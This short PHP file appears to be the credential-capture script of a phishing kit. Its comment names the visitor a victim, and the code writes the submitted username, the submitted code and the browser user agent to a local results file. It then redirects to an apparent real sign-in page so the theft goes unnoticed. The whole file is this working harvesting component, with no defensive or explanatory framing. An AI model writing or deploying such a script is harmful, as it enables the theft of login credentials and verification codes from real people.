<?php
// the kit's results log: what the victim typed and their browser, then the real sign-in page
$who = $_POST['user'];
$code = $_POST['code'];
$h = fopen(__DIR__ . '/results.txt', 'a');
fwrite($h, "$who | $code | " . $_SERVER['HTTP_USER_AGENT'] . "\n");
fclose($h);
header('Location: https://login.example-mail.com/');
exit;
